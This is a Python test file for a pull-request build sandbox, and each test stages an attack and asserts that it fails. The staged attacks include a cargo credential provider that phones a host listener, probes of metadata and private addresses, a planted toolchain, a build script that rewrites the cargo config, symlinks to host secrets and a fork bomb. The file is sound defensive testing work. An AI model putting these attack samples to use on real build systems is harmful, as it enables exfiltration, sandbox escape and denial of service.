@@ -1,0 +1,339 @@
+"""Issue 18, the fetch and the sandbox's limits, attacked as a pull request would: every attack here must fail.
+
+Real git repositories of the fixture workspace, real cargo in the real bubblewrap sandbox, a real listener on the
+host's 127.0.0.1, real forks and allocations inside the sandbox. Nothing here needs the internet: a fetch that
+would need it fails, and the test asserts how.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import socket
+import subprocess
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from runners.build import CARGO_HOME_CONFIG_KEY, BuildError, build_artifact
+from runners.demo import commit_change, demo_config, init_fixture_repo
+from runners.exceptions import ExceptionFileError, load_records, verify_records
+from runners.report import ExceptionRecord
+from runners.revisions import worktree
+from runners.sandbox import FIXED_BINARY, Limits, Run, Sandbox
+
+pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None or shutil.which("pasta") is None,
+                                reason="needs bubblewrap and pasta (packages bubblewrap, passt)")
+
+BUILD_RS = "lib/bench/build.rs"
+BENCH_MANIFEST = "lib/bench/Cargo.toml"
+
+
+class Listener:
+    """A real TCP listener on the host; every connection (and its first bytes) is recorded."""
+
+    def __init__(self, host: str = "127.0.0.1") -> None:
+        self.server = socket.create_server((host, 0))
+        self.port = self.server.getsockname()[1]
+        self.received: list[bytes] = []
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                connection, _ = self.server.accept()
+            except OSError:
+                return
+            with connection:
+                connection.settimeout(5)
+                try:
+                    self.received.append(connection.recv(4096) or b"<connected>")
+                except OSError:
+                    self.received.append(b"<connected>")
+
+    def close(self) -> None:
+        self.server.close()
+
+
+@pytest.fixture()
+def listener() -> Iterator[Listener]:
+    served = Listener()
+    yield served
+    served.close()
+
+
+@pytest.fixture()
+def repo(tmp_path: Path) -> Path:
+    path = tmp_path / "repo"
+    init_fixture_repo(path)
+    return path
+
+
+def depend_on(repo: Path, name: str, source: str, manifest_spec: str) -> dict[str, str]:
+    """Files that make the bench crate depend on `name` from `source`, pinned in Cargo.lock (so fetch runs)."""
+    manifest = (repo / BENCH_MANIFEST).read_text(encoding="utf-8")
+    manifest = manifest.replace("[features]", f"[dependencies]\n{name} = {manifest_spec}\n\n[features]")
+    lock = (repo / "Cargo.lock").read_text(encoding="utf-8")
+    lock = lock.replace('name = "dynamo-bench"\nversion = "0.1.0"\n',
+                        f'name = "dynamo-bench"\nversion = "0.1.0"\ndependencies = [\n "{name}",\n]\n')
+    lock += f'\n[[package]]\nname = "{name}"\nversion = "1.0.0"\nsource = "{source}"\nchecksum = "{"0" * 64}"\n'
+    return {BENCH_MANIFEST: manifest, "Cargo.lock": lock}
+
+
+def commit_symlink(repo: Path, link: str, target: Path) -> str:
+    path = repo / link
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.symlink_to(target)
+    subprocess.run(["git", "-C", str(repo), "add", link], check=True)
+    subprocess.run(["git", "-C", str(repo), "commit", "-q", "-m", f"link {link}"], check=True)
+    return subprocess.run(["git", "-C", str(repo), "rev-parse", "HEAD"], capture_output=True, text=True,
+                          check=True).stdout.strip()
+
+
+def build(repo: Path, sha: str, tmp_path: Path) -> BuildError | None:
+    """Build `sha` in its own worktree as a campaign does; the BuildError it stops with, or None."""
+    with worktree(repo, sha, tmp_path / "tree-candidate") as tree:
+        try:
+            build_artifact(tree, "candidate", sha, demo_config().build, tmp_path / "bin")
+        except BuildError as exc:
+            return exc
+    return None
+
+
+# --- the fetch ------------------------------------------------------------------------------------------------
+
+
+def test_credential_provider_exfiltration_runs_nothing_and_reaches_no_host_listener(
+        repo: Path, listener: Listener, tmp_path: Path) -> None:
+    index = f"sparse+http://127.0.0.1:{listener.port}/index/"
+    provider = (f"import socket; socket.create_connection(('127.0.0.1', {listener.port})).sendall(b'PROVIDER-RAN'); "
+                "print('stolen')")
+    files = depend_on(repo, "exfil", index, '{ version = "1", registry = "x" }')
+    files[".cargo/config.toml"] = (f'[registries.x]\nindex = "{index}"\n'
+                                   f'credential-provider = ["cargo:token-from-stdout", "python3", "-c", '
+                                   f'{json.dumps(provider)}]\n')
+    sha = commit_change(repo, "a dependency from a registry whose credential provider phones home", files=files)
+    stopped = build(repo, sha, tmp_path)
+    assert stopped is not None and str(stopped).startswith("cargo fetch --locked failed for candidate")
+    assert "\n" not in str(stopped)
+    assert listener.received == [], "neither cargo nor the PR's credential provider reached the host's loopback"
+
+
+def test_fetch_network_reaches_neither_host_loopback_nor_its_addresses_nor_private_ranges(tmp_path: Path) -> None:
+    wide = Listener("0.0.0.0")
+    try:
+        addresses = json.loads(subprocess.run(["ip", "-4", "-j", "addr", "show"], capture_output=True, text=True,
+                                              check=True).stdout)
+        hosts = sorted({info["local"] for link in addresses for info in link.get("addr_info", [])} |
+                       {"127.0.0.1", "169.254.169.254", "10.0.0.1", "172.16.0.1", "192.168.0.1"})
+        probe = ("import socket, sys\n"
+                 "for host in sys.argv[2:]:\n"
+                 "    s = socket.socket(); s.settimeout(3)\n"
+                 "    try:\n"
+                 "        s.connect((host, int(sys.argv[1]))); print(host, 'REACHED')\n"
+                 "    except OSError as error:\n"
+                 "        print(host, error.errno)\n")
+        completed = Sandbox().run(Run(argv=["python3", "-c", probe, str(wide.port), *hosts], network=True,
+                                      proc=True), timeout=120)
+    finally:
+        wide.close()
+    assert completed.returncode == 0, completed.stderr
+    outcomes = dict(line.split(" ", 1) for line in completed.stdout.splitlines())
+    assert sorted(outcomes) == hosts
+    assert "REACHED" not in outcomes.values(), outcomes
+    assert wide.received == []
+    assert subprocess.run(["pgrep", "-f", "kvp-netns-"], capture_output=True).returncode == 1, "pasta is gone"
+
+
+def test_source_replacement_in_the_pr_config_is_not_read_by_the_fetch(repo: Path, tmp_path: Path) -> None:
+    files = depend_on(repo, "replaced", "registry+https://github.com/rust-lang/crates.io-index", '"1"')
+    files[".cargo/config.toml"] = ('[source.crates-io]\nreplace-with = "planted"\n\n'
+                                   '[source.planted]\ndirectory = "planted-vendor-dir"\n')
+    sha = commit_change(repo, "replace crates.io with a source the PR chose", files=files)
+    stopped = build(repo, sha, tmp_path)
+    assert stopped is not None and str(stopped).startswith("cargo fetch --locked failed for candidate")
+    assert "crates.io" in stopped.output_tail, "cargo went to the real registry, not the PR's replacement"
+    assert "planted" not in stopped.output_tail
+
+
+def test_a_toolchain_file_path_override_never_runs_during_the_fetch(repo: Path, tmp_path: Path) -> None:
+    tree = tmp_path / "tree-candidate"
+    fake = "#!/bin/sh\necho PLANTED-TOOLCHAIN-RAN \"$@\" >&2\nexit 3\n"
+    sha = commit_change(repo, "a toolchain of the PR's own", files={
+        "rust-toolchain.toml": f'[toolchain]\npath = "{tree}/planted-toolchain"\n',
+        "planted-toolchain/bin/cargo": fake, "planted-toolchain/bin/rustc": fake})
+    subprocess.run(["git", "-C", str(repo), "update-index", "--chmod=+x", "planted-toolchain/bin/cargo",
+                    "planted-toolchain/bin/rustc"], check=True)
+    subprocess.run(["git", "-C", str(repo), "commit", "-q", "-m", "executable"], check=True)
+    sha = subprocess.run(["git", "-C", str(repo), "rev-parse", "HEAD"], capture_output=True, text=True,
+                         check=True).stdout.strip()
+    stopped = build(repo, sha, tmp_path)
+    # The fetch (network up) used the bot's toolchain and passed; the offline build then ran the PR's own cargo,
+    # which is allowed there and stops the build with its output kept apart.
+    assert stopped is not None and "fetch" not in str(stopped)
+    assert str(stopped).startswith("cargo metadata failed for candidate")
+    assert "PLANTED-TOOLCHAIN-RAN metadata" in stopped.output_tail
+    assert "PLANTED-TOOLCHAIN-RAN fetch" not in stopped.output_tail
+
+
+def test_a_build_writing_the_cargo_home_config_is_refused(repo: Path, tmp_path: Path) -> None:
+    sha = commit_change(repo, "a build script that configures later cargo runs", files={BUILD_RS: """
+fn main() {
+    let home = std::env::var("CARGO_HOME").unwrap();
+    let config = format!("{home}/config.toml");
+    // The bot's file is root-owned and read-only, but the directory is the sandbox's: replace it.
+    std::fs::remove_file(&config).unwrap();
+    std::fs::write(&config, "[build]\\nrustc-wrapper = \\"/bin/true\\"\\n").unwrap();
+}
+"""})
+    stopped = build(repo, sha, tmp_path)
+    assert stopped is not None
+    assert "changed its cargo home's configuration (config.toml)" in str(stopped)
+
+
+def test_the_bot_cargo_home_config_is_recorded_and_committed_symlinks_are_never_followed(
+        repo: Path, tmp_path: Path) -> None:
+    root_only = tmp_path / "root-only"
+    root_only.mkdir(mode=0o700)
+    (root_only / "config.toml").write_text('[build]\nrustflags = ["--cfg", "kvp_root_only_marker"]\n',
+                                           encoding="utf-8")
+    sha = commit_symlink(repo, ".cargo", root_only)
+    with worktree(repo, sha, tmp_path / "tree-candidate") as tree:
+        artifact = build_artifact(tree, "candidate", sha, demo_config().build, tmp_path / "bin")
+    assert artifact.settings is not None
+    assert set(artifact.settings.cargo_config_sha256) == {CARGO_HOME_CONFIG_KEY}
+    assert artifact.settings.config_rustflags == {}
+    assert "kvp_root_only_marker" not in artifact.model_dump_json()
+
+
+# --- exception records ----------------------------------------------------------------------------------------
+
+
+RECORD = """[[exception]]
+id = "{id}"
+pointers = [{pointers}]
+baseline_behavior = "b"
+candidate_behavior = "c"
+source_of_truth = "s"
+why_intended = "w"
+compatibility_impact = "i"
+disposition = "d"
+regression_test = ["{{binary}}"]
+"""
+
+
+def test_an_exceptions_file_linked_to_a_host_toml_is_never_read(repo: Path, tmp_path: Path) -> None:
+    host = tmp_path / "host-settings.toml"
+    host.write_text("[kvp_host_secret_table]\nwebhook_secret_key = 1\n", encoding="utf-8")
+    sha = commit_symlink(repo, ".kv-parity/exceptions.toml", host)
+    assert load_records(repo, sha) == []
+
+
+@pytest.mark.parametrize("pointer", ["", "/", "/*", "/**", "/**/decode_admit_ms"])
+def test_a_record_whose_pointers_cover_everything_is_refused(repo: Path, pointer: str) -> None:
+    text = RECORD.format(id="everything", pointers=f'"/summary/x", {json.dumps(pointer)}')
+    sha = commit_change(repo, "excuse everything", files={".kv-parity/exceptions.toml": text})
+    with pytest.raises(ExceptionFileError) as refused:
+        load_records(repo, sha)
+    assert "'everything'" in str(refused.value) and "covers the whole report" in str(refused.value)
+
+
+def test_regression_tests_see_both_binaries_at_one_fixed_path(tmp_path: Path) -> None:
+    binaries = {"baseline": tmp_path / "baseline-0123456789ab-bench", "candidate": tmp_path / "candidate-ba98-bench"}
+    shutil.copyfile("/usr/bin/false", binaries["baseline"])
+    shutil.copyfile("/usr/bin/true", binaries["candidate"])
+    for binary in binaries.values():
+        binary.chmod(0o555)
+    trace = tmp_path / "trace.jsonl"
+    trace.write_text("{}\n", encoding="utf-8")
+    tree = tmp_path / "tree"
+    tree.mkdir()
+    record = ExceptionRecord(id="x", pointers=["/summary/x"], baseline_behavior="b", candidate_behavior="c",
+                             source_of_truth="s", why_intended="w", compatibility_impact="i", disposition="d",
+                             regression_test=["{binary}"])
+    outcome, = verify_records([record], tree, binaries, trace)  # type: ignore[arg-type]
+    assert outcome.verified, outcome.reason
+    assert outcome.runs[0].argv == outcome.runs[1].argv == [str(FIXED_BINARY)]
+
+
+# --- the sandbox's limits --------------------------------------------------------------------------------------
+
+
+FORK_BOMB = """
+import os, signal
+children = 0
+try:
+    while children < 10000:
+        pid = os.fork()
+        if pid == 0:
+            signal.pause()
+            os._exit(0)
+        children += 1
+except BlockingIOError:
+    print("refused after", children)
+"""
+
+
+def test_a_fork_bomb_is_bounded_by_the_process_limit() -> None:
+    limit = 24
+    completed = Sandbox(limits=Limits(processes=limit)).run(Run(argv=["python3", "-c", FORK_BOMB], proc=True),
+                                                          timeout=300)
+    assert completed.returncode == 0, completed.stderr
+    refused = completed.stdout.split()
+    assert refused[:2] == ["refused", "after"] and int(refused[2]) < limit
+
+
+def test_a_memory_hog_is_bounded_by_the_memory_limit() -> None:
+    completed = Sandbox(limits=Limits(memory_bytes=512 << 20)).run(
+        Run(argv=["python3", "-c", "block = bytearray(1 << 30)"]), timeout=120)
+    assert completed.returncode != 0 and "MemoryError" in completed.stderr
+
+
+def test_no_nested_user_namespace_in_any_sandboxed_start() -> None:
+    completed = Sandbox().run(Run(argv=["unshare", "-Urn", "id", "-u"], proc=True), timeout=60)
+    assert completed.returncode != 0
+    assert "Operation not permitted" in completed.stderr and completed.stdout == ""
+    record = Sandbox().record()
+    assert record.user_namespaces is False and record.inherited_fds is False
+    assert record.process_limit == Limits().processes and record.memory_limit_bytes == Limits().memory_bytes
+    assert "pasta" in record.fetch_network
+
+
+def spawn_like_the_sampler(run: Run) -> tuple[int, str]:
+    """posix_spawn, as the perf sampler starts a sample: it passes every inheritable descriptor on."""
+    argv, env = Sandbox().command(run)
+    read_end, write_end = os.pipe()
+    pid = os.posix_spawnp(argv[0], argv, env, file_actions=[(os.POSIX_SPAWN_DUP2, write_end, 1)])
+    os.close(write_end)
+    with os.fdopen(read_end) as output:
+        printed = output.read()
+    _, status = os.waitpid(pid, 0)
+    return os.waitstatus_to_exitcode(status), printed
+
+
+@pytest.mark.parametrize("sampled", [False, True], ids=["shim", "sampled"])
+def test_inherited_descriptors_never_reach_the_sandboxed_process(tmp_path: Path, sampled: bool) -> None:
+    leaked = os.open(tmp_path / "secret", os.O_WRONLY | os.O_CREAT, 0o600)
+    os.set_inheritable(leaked, True)
+    listing = "import os; print(sorted(os.listdir('/proc/self/fd')))"
+    try:
+        code, printed = spawn_like_the_sampler(Run(argv=["python3", "-c", listing], proc=True, as_pid_1=sampled))
+    finally:
+        os.close(leaked)
+    assert code == 0
+    assert printed.strip() == "['0', '1', '2', '3']", "stdio and listdir's own descriptor only"
+
+
+def test_a_sampled_start_gets_the_same_limits_and_no_user_namespaces() -> None:
+    """Samples skip the interpreter shim (bwrap --seccomp, prlimit): the same three guarantees, natively."""
+    probe = ("import resource, subprocess\n"
+             "print(resource.getrlimit(resource.RLIMIT_NPROC)[1], resource.getrlimit(resource.RLIMIT_AS)[1])\n"
+             "print(subprocess.run(['unshare', '-Urn', 'true'], capture_output=True).returncode)\n")
+    for _ in range(2):  # the filter's memfd is rewound for every start
+        code, printed = spawn_like_the_sampler(Run(argv=["python3", "-c", probe], proc=True, as_pid_1=True))
+        assert code == 0
+        assert printed.split() == [str(Limits().processes), str(Limits().memory_bytes), "1"]
